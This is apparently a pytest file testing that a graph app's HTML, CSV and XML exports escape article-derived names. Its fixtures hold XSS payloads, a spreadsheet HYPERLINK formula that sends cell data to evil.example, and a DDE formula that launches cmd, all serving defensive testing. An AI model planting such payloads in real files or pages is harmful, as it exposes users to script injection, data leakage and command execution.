"""Output escaping: article text never becomes markup in HTML, nor a formula in CSV.

Actors named with markup and spreadsheet formulas go through the real build into a store, then
out through every export a browser or a spreadsheet opens. (The app's own pages are checked with
the same kind of names in tests/app/test_app.py and tests/app/test_browser.py.)
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import re
import xml.etree.ElementTree as ET
import zipfile
from pathlib import Path

import pytest
from click.testing import CliRunner

from extract.records import Article, Entity, Evidence, Extraction, Mention, Relation
from graph.builder import build_extractions
from graph.cli import cli
from graph.export import export_bytes
from graph.store import GraphStore, OxigraphStore, open_store

SCRIPT = "Evil <script>alert(1)</script> Corp"
IMG = "<img src=x onerror=alert(2)> Holdings"
CLOSER = "Closer </script><script>alert(3)</script> Ltd"
FORMULAS = (
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3 Power",
    "@SUM(1+1) Capital",
    "\tTab Cloud",
)
NAMES = (SCRIPT, IMG, CLOSER, *FORMULAS)
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def _hostile_extraction() -> Extraction:
    sentence = f"{SCRIPT} will invest $5 billion in Norway with {IMG}."
    evidence = Evidence("hostile", sentence, 0, len(sentence))
    entities = [
        Entity("hostile", f"name:{i}", name, "Company", (Mention(name, 0, len(name)),), confidence=0.6)
        for i, name in enumerate(NAMES)
    ]
    entities.append(
        Entity("hostile", "country:NO", "Norway", "Country", (Mention("Norway", 0, 6),), country="NO")
    )
    relations = [Relation("hostile", name, "invests_in", "Norway", 5e9, 0.8, evidence) for name in NAMES] + [
        Relation("hostile", SCRIPT, "partners_with", name, None, 0.8, evidence) for name in NAMES[1:]
    ]
    article = Article(
        id="hostile",
        title=f"Title {SCRIPT}",
        text=sentence,
        date=dt.date(2025, 1, 2),
        publisher=FORMULAS[0],
        path="hostile.md",
        content_hash="h",
    )
    return Extraction(article, tuple(entities), (), (), tuple(relations))


@pytest.fixture(scope="module")
def hostile_location(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """An on-disk store built from the hostile extraction (closed: commands can read it)."""
    location = tmp_path_factory.mktemp("escaping") / "store"
    with OxigraphStore(location) as store:
        build_extractions([_hostile_extraction()], store)
    return location


@pytest.fixture(scope="module")
def hostile_store(hostile_location: Path) -> GraphStore:
    return open_store(hostile_location, read_only=True)


def test_the_html_export_escapes_every_actor_name(hostile_store: GraphStore) -> None:
    page = export_bytes(hostile_store, "html").decode("utf-8")
    for raw in ("<script>alert(1)", "<img src=x onerror", "</script><script>alert(3)"):
        assert raw not in page
    data_start = page.index("// initialize global variables")
    data_end = page.index("</script>", data_start)  # no name closed the data's script element early
    for marker in ("alert(1)", "alert(2)", "alert(3)"):
        found = [m.start() for m in re.finditer(re.escape(marker), page)]
        assert found and all(data_start < i < data_end for i in found), marker  # only as data
    assert not re.search(r"""<(?:script|link|img)\b[^>]*(?:src|href)\s*=\s*["']?https?://""", page)


def test_csv_cells_never_start_a_formula(hostile_location: Path, tmp_path: Path) -> None:
    output = tmp_path / "network.zip"
    result = CliRunner().invoke(
        cli, ["export", "--format", "csv", "--output", str(output), "--store", str(hostile_location)]
    )
    assert result.exit_code == 0
    with zipfile.ZipFile(output) as zf:
        tables = {
            name: list(csv.reader(io.StringIO(zf.read(name).decode("utf-8")))) for name in zf.namelist()
        }
    assert set(tables) == {"nodes.csv", "edges.csv"}
    cells = [cell for rows in tables.values() for row in rows for cell in row]
    assert [c for c in cells if c.startswith(FORMULA_START)] == []
    labels = {row[1] for row in tables["nodes.csv"][1:]}
    for name in FORMULAS:
        assert "'" + name in labels  # kept, with the quote that makes a spreadsheet read it as text
    assert SCRIPT in labels  # CSV is data: markup is kept as text


def test_xml_exports_carry_names_as_text(hostile_store: GraphStore) -> None:
    for fmt in ("gexf", "graphml"):
        root = ET.fromstring(export_bytes(hostile_store, fmt))
        values = {el.get("label") for el in root.iter()} | {el.text for el in root.iter()}
        assert {SCRIPT, IMG, CLOSER} <= values, fmt
